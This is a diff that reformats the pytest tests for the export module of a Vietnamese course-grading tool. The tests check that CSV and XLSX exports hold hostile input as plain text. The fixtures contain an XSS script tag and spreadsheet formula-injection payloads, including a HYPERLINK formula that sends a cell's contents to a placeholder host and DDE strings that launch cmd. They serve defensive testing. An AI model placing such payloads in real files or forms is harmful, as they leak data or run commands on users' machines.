@@ -15,12 +15,39 @@ from hocai_grader.report import COMPLETED, NOT_PASSED, NOT_SUBMITTED, Report, Ro
 def report():
     a = ["bai01", "bai02"]
     rows = [
-        Row("annv", "Nguyễn Văn An", "UBND xã Tân Hòa, huyện Châu Thành", "Công chức", {"bai01": 50.0, "bai02": 40.0},
-            90.0, 100.0, COMPLETED),
-        Row("bichpt", 'Phạm, Thị "Bích"', "Trường TH", "Giáo viên", {"bai01": 20.0, "bai02": None}, 20.0, 100.0,
-            NOT_PASSED, ["bai02", "cần thêm 50 điểm"], ["bai01: quá thời gian"]),
-        Row("xss", "<script>alert(1)</script>", "", "", {"bai01": None, "bai02": None}, 0.0, 100.0, NOT_SUBMITTED,
-            ["bai01", "bai02"]),
+        Row(
+            "annv",
+            "Nguyễn Văn An",
+            "UBND xã Tân Hòa, huyện Châu Thành",
+            "Công chức",
+            {"bai01": 50.0, "bai02": 40.0},
+            90.0,
+            100.0,
+            COMPLETED,
+        ),
+        Row(
+            "bichpt",
+            'Phạm, Thị "Bích"',
+            "Trường TH",
+            "Giáo viên",
+            {"bai01": 20.0, "bai02": None},
+            20.0,
+            100.0,
+            NOT_PASSED,
+            ["bai02", "cần thêm 50 điểm"],
+            ["bai01: quá thời gian"],
+        ),
+        Row(
+            "xss",
+            "<script>alert(1)</script>",
+            "",
+            "",
+            {"bai01": None, "bai02": None},
+            0.0,
+            100.0,
+            NOT_SUBMITTED,
+            ["bai01", "bai02"],
+        ),
     ]
     return Report("lop-tan-hoa", a, {"bai01": 50.0, "bai02": 50.0}, rows, {"min_percent": 70.0, "require_all": True})
 
@@ -41,13 +68,16 @@ def test_csv_is_quoted_utf8_with_bom_and_survives_commas(report, tmp_path):
 
 def test_csv_export_works_under_a_non_utf8_locale(report, tmp_path):
     out = tmp_path / "kq.csv"
-    code = ("import sys, pickle; from hocai_grader import export; "
-            "export.write_csv(pickle.loads(sys.stdin.buffer.read()), __import__('pathlib').Path(sys.argv[1]))")
+    code = (
+        "import sys, pickle; from hocai_grader import export; "
+        "export.write_csv(pickle.loads(sys.stdin.buffer.read()), __import__('pathlib').Path(sys.argv[1]))"
+    )
     import pickle
 
     env = {"LANG": "C", "LC_ALL": "C", "PYTHONIOENCODING": "ascii", "PYTHONUTF8": "0", "PATH": "/usr/bin"}
-    done = subprocess.run([sys.executable, "-c", code, str(out)], input=pickle.dumps(report), env=env,
-                          capture_output=True)
+    done = subprocess.run(
+        [sys.executable, "-c", code, str(out)], input=pickle.dumps(report), env=env, capture_output=True
+    )
     assert done.returncode == 0, done.stderr.decode()
     assert "Nguyễn Văn An" in out.read_text(encoding="utf-8-sig")
 
@@ -78,14 +108,28 @@ def test_histogram_counts_only_submitters(report):
     assert sum(hist.values()) == 2 and hist["90–100"] == 1 and hist["20–29"] == 1
 
 
-INJECTIONS = {"unit": '=HYPERLINK("http://x.example/?d="&A2,"Bấm vào đây")', "position": "+cmd|' /C calc'!A0",
-              "name": "@SUM(1+1)*cmd|' /C calc'!A0", "notes": "-2+3"}
+INJECTIONS = {
+    "unit": '=HYPERLINK("http://x.example/?d="&A2,"Bấm vào đây")',
+    "position": "+cmd|' /C calc'!A0",
+    "name": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "notes": "-2+3",
+}
 
 
 @pytest.fixture
 def hostile(report):
-    row = Row("hack", INJECTIONS["name"], INJECTIONS["unit"], INJECTIONS["position"], {"bai01": 10.0, "bai02": None},
-              10.0, 100.0, NOT_PASSED, ["bai02"], [INJECTIONS["notes"]])
+    row = Row(
+        "hack",
+        INJECTIONS["name"],
+        INJECTIONS["unit"],
+        INJECTIONS["position"],
+        {"bai01": 10.0, "bai02": None},
+        10.0,
+        100.0,
+        NOT_PASSED,
+        ["bai02"],
+        [INJECTIONS["notes"]],
+    )
     report.rows.append(row)
     return report
 
@@ -112,8 +156,10 @@ def test_xlsx_keeps_formula_like_text_as_text(hostile, tmp_path):
     assert sheets and not any("<f>" in s or "<f " in s for s in sheets)
     sheet = openpyxl.load_workbook(out)["Kết quả"]
     header = [c.value for c in sheet[1]]
-    cells = {name: sheet.cell(row=sheet.max_row, column=header.index(name) + 1)
-             for name in ("Đơn vị", "Chức vụ", "Họ và tên", "Ghi chú")}
+    cells = {
+        name: sheet.cell(row=sheet.max_row, column=header.index(name) + 1)
+        for name in ("Đơn vị", "Chức vụ", "Họ và tên", "Ghi chú")
+    }
     assert [c.value for c in cells.values()] == [INJECTIONS[k] for k in ("unit", "position", "name", "notes")]
     assert all(c.data_type == "s" and c.quotePrefix for c in cells.values())
     assert sheet.cell(row=2, column=header.index("Họ và tên") + 1).value == "Nguyễn Văn An"
